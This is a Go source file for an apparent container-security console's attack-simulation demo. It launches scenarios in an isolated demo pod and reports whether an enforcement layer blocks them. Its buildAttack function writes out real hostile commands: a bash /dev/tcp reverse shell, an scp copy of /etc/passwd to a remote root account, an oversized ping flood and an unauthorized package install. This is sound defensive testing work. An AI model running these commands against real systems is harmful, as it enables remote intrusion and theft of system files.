// Copyright (C) 2025 Aleutian AI (jinterlante@aleutian.ai)
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
// See the LICENSE.txt file for the full license text.
//
// NOTE: This work is subject to additional terms under AGPL v3 Section 7.
// See the NOTICE.txt file for details regarding AI system attribution.

package demos

import (
	"context"
	"fmt"
	"strings"

	"github.com/AleutianAI/SentryDeck/services/console/datatypes"
)

// AttackDemo simulates attack scenarios from a compromised demo pod. All
// scenarios run inside the isolated demo namespace against demo workloads;
// the point is to show the enforcement layer stopping them.
type AttackDemo struct{}

var _ Module = (*AttackDemo)(nil)

var attackLabels = map[string]string{
	"dos_ping":      "DoS Ping Flood (40KB payload)",
	"pkg_install":   "Package Install (zypper)",
	"file_transfer": "File Transfer (scp)",
	"reverse_shell": "Reverse Shell",
}

func (d *AttackDemo) Descriptor() datatypes.DemoDescriptor {
	return datatypes.DemoDescriptor{
		ID:          "attack",
		Name:        "Attack Simulation",
		Description: "Simulate attack scenarios (ping flood, package install, file exfiltration, reverse shell) against demo workloads to test blocking.",
		Category:    "Security Testing",
		Icon:        "swords",
		Parameters: []datatypes.DemoParameter{
			{
				Name: "pod_name", Label: "Source Pod", Type: "select",
				Default: "production1", Required: true,
				Options: []string{"production1", "web1"},
			},
			{
				Name: "attack_type", Label: "Attack Type", Type: "select",
				Default: "dos_ping", Required: true,
				Options: []string{"dos_ping", "pkg_install", "file_transfer", "reverse_shell"},
			},
			{
				Name: "target", Label: "Target", Type: "select",
				Default: "web1", Required: true,
				Options: []string{"web1", "external"},
			},
		},
	}
}

// buildAttack returns the argv for one scenario plus an intro line.
func buildAttack(attackType, targetAddr string) ([]string, string) {
	switch attackType {
	case "dos_ping":
		return []string{"ping", "-s", "40000", "-c", "5", targetAddr},
			"[INFO] Simulating DoS attack with oversized ICMP packets (40KB payload)"
	case "pkg_install":
		return []string{"zypper", "install", "-y", "curl"},
			"[INFO] Attempting unauthorized package installation"
	case "file_transfer":
		return []string{"scp", "-o", "StrictHostKeyChecking=no", "-o", "ConnectTimeout=5",
				"/etc/passwd", fmt.Sprintf("root@%s:/tmp/", targetAddr)},
			"[INFO] Attempting to transfer sensitive file (/etc/passwd)"
	case "reverse_shell":
		return []string{"bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/%s/4444 0>&1", targetAddr)},
			"[INFO] Attempting reverse shell connection"
	}
	return nil, ""
}

// attackSucceeded inspects one output line for scenario-specific success
// indicators.
func attackSucceeded(attackType, line string) bool {
	l := strings.ToLower(line)
	switch attackType {
	case "dos_ping":
		return strings.Contains(l, "bytes from") || strings.Contains(l, "time=")
	case "pkg_install":
		return strings.Contains(l, "already installed") || strings.Contains(l, "nothing to do")
	case "file_transfer":
		return strings.Contains(line, "100%")
	}
	return false
}

func (d *AttackDemo) Execute(ctx context.Context, deps Deps, params map[string]string, emit func(string)) (Outcome, error) {
	attackType := params["attack_type"]
	pod := params["pod_name"]
	target := params["target"]
	label := attackLabels[attackType]

	emit(fmt.Sprintf("[INFO] Starting attack simulation: %s", label))
	emit(fmt.Sprintf("[INFO] Source pod: %s", pod))
	emit(fmt.Sprintf("[INFO] Target: %s", target))
	emit("")

	targetAddr := resolveTarget(ctx, deps, target)
	emit(fmt.Sprintf("[INFO] Resolved target address: %s", targetAddr))
	emit("")

	argv, intro := buildAttack(attackType, targetAddr)
	if argv == nil {
		emit(fmt.Sprintf("[ERROR] Unknown attack type: %s", attackType))
		return Outcome{Success: false, Message: "unknown attack type"}, fmt.Errorf("unknown attack type %q", attackType)
	}
	emit(intro)
	emit(fmt.Sprintf("[CMD] kubectl exec %s -n %s -- %s", pod, deps.Namespace, strings.Join(argv, " ")))
	emit("")

	commandSucceeded := false
	wrapped := func(line string) {
		emit(line)
		if attackSucceeded(attackType, line) {
			commandSucceeded = true
		}
	}

	killed, denied, err := drainExec(ctx, deps, pod, argv, 30, wrapped)
	if err != nil {
		emit(fmt.Sprintf("[ERROR] %v", err))
		return Outcome{Success: false, Message: "attack simulation failed to run"}, err
	}
	emit("")

	switch {
	case killed:
		emit(fmt.Sprintf("[BLOCKED] Attack '%s' was blocked!", label))
		emit("[INFO] Process was killed (exit code 137 - SIGKILL)")
		emit("[INFO] The process profile is in Protect mode")
		return Outcome{Success: true, Blocked: true, Message: fmt.Sprintf("%s blocked by enforcement", label)}, nil
	case denied:
		emit(fmt.Sprintf("[BLOCKED] Attack '%s' failed - permission denied or command not found", label))
		emit("[INFO] The process profile rejected the binary before it ran")
		return Outcome{Success: true, Blocked: true, Message: fmt.Sprintf("%s denied", label)}, nil
	case commandSucceeded:
		emit(fmt.Sprintf("[WARNING] Attack '%s' succeeded!", label))
		emit("[INFO] Switch the group to Protect mode to block this attack")
		return Outcome{Success: true, Message: fmt.Sprintf("%s succeeded - workloads unprotected", label)}, nil
	default:
		emit(fmt.Sprintf("[INFO] Attack simulation '%s' completed", label))
		emit("[INFO] Check Security Events for detected violations")
		return Outcome{Success: true, Message: fmt.Sprintf("%s completed", label)}, nil
	}
}
